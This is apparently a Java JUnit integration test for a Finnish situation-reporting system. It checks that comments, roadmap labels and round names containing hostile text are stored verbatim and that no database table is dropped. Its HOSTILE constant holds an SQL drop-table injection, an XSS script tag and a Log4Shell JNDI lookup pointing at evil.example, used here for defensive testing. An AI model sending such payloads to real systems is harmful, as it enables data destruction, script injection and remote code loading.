package fi.tilannekuva.system;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

/**
 * SQL, script and JNDI text where free text belongs (comments, labels, round names) is legitimate input: it is
 * stored and served back verbatim, never executed, and the databases are intact afterwards.
 */
@Order(4)
class FreeTextIT {

    private static final String HOSTILE = "'); drop table report; -- <script>alert('tk')</script>"
            + " ${jndi:ldap://evil.example/a} \" \\ ä ö å € 😀";

    private final SystemUnderTest system = SystemUnderTest.shared();

    @Test
    void aCommentWithSqlAndScriptIsStoredAndReadBackVerbatim() {
        Roadmap roadmap = system.ensureRoadmap();
        String subtask = roadmap.applicableTo("lappi").get(2).id();
        Map<String, Long> tablesBefore = tables();

        Http.Reply stored = system.report(new Report(
                "lappi", Instant.now().minusSeconds(5), List.of(new Report.Item(subtask, "DELAYED", HOSTILE, true))));
        assertEquals(201, stored.status(), stored.toString());

        Http.Reply statuses = system.status()
                .get("/api/v1/regions/lappi/statuses")
                .bearer(SystemUnderTest.reader())
                .send();
        assertEquals(200, statuses.status(), statuses.toString());
        assertTrue(containsText(statuses.json(), HOSTILE), "the comment comes back verbatim: " + statuses);
        SystemUnderTest.await("the comment in the situation picture's unit view", Duration.ofSeconds(30), () -> {
            JsonNode unit = system.situation()
                    .get("/api/v1/situation/units/lappi")
                    .bearer(SystemUnderTest.reader())
                    .send()
                    .json();
            return containsText(unit, HOSTILE);
        });
        assertEquals(tablesBefore, tables(), "every table is still there");
    }

    @Test
    void aRoadmapLabelAndARoundNameWithSqlAndScriptAreStoredVerbatim() {
        Roadmap roadmap = system.ensureRoadmap();
        Map<String, Long> tablesBefore = tables();

        ObjectNode document = roadmap.document();
        document.put("label", HOSTILE);
        Http.Reply published = system.roadmap()
                .post("/api/v1/roadmaps")
                .bearer(SystemUnderTest.admin())
                .json(document)
                .send();
        assertEquals(201, published.status(), published.toString());
        system.adopt(roadmap, SystemUnderTest.versionOf(published));
        Http.Reply current = system.roadmap().get("/api/v1/roadmaps/current").send();
        assertEquals(HOSTILE, current.json().path("label").asText(), current.toString());

        ObjectNode round = Json.object().put("name", HOSTILE).put("deadline", "2023-01-01");
        round.put("at", Instant.now().minusSeconds(1).toString());
        round.putObject("window").put("from", "2021-04-01").put("to", "2021-12-31");
        Http.Reply frozen = system.situation()
                .post("/api/v1/situation/snapshots")
                .bearer(SystemUnderTest.admin())
                .json(round)
                .send();
        assertEquals(201, frozen.status(), frozen.toString());
        assertEquals(HOSTILE, frozen.json().path("name").asText(), frozen.toString());
        assertTrue(
                frozen.json().path("id").asText().matches("[a-z0-9-]+"),
                "the round's id is a safe slug: " + frozen.json().path("id"));
        assertEquals(tablesBefore, tables(), "every table is still there");
    }

    /** Tables per service database: none dropped. */
    private Map<String, Long> tables() {
        return Map.of(
                "roadmap", tableCount("roadmap"),
                "status", tableCount("status"),
                "situation", tableCount("situation"));
    }

    private long tableCount(String database) {
        return system.databases().count(database, "select count(*) from pg_tables where schemaname = 'public'");
    }

    private static boolean containsText(JsonNode node, String text) {
        if (node.isTextual()) {
            return node.asText().equals(text);
        }
        for (JsonNode child : node) {
            if (containsText(child, text)) {
                return true;
            }
        }
        return false;
    }
}
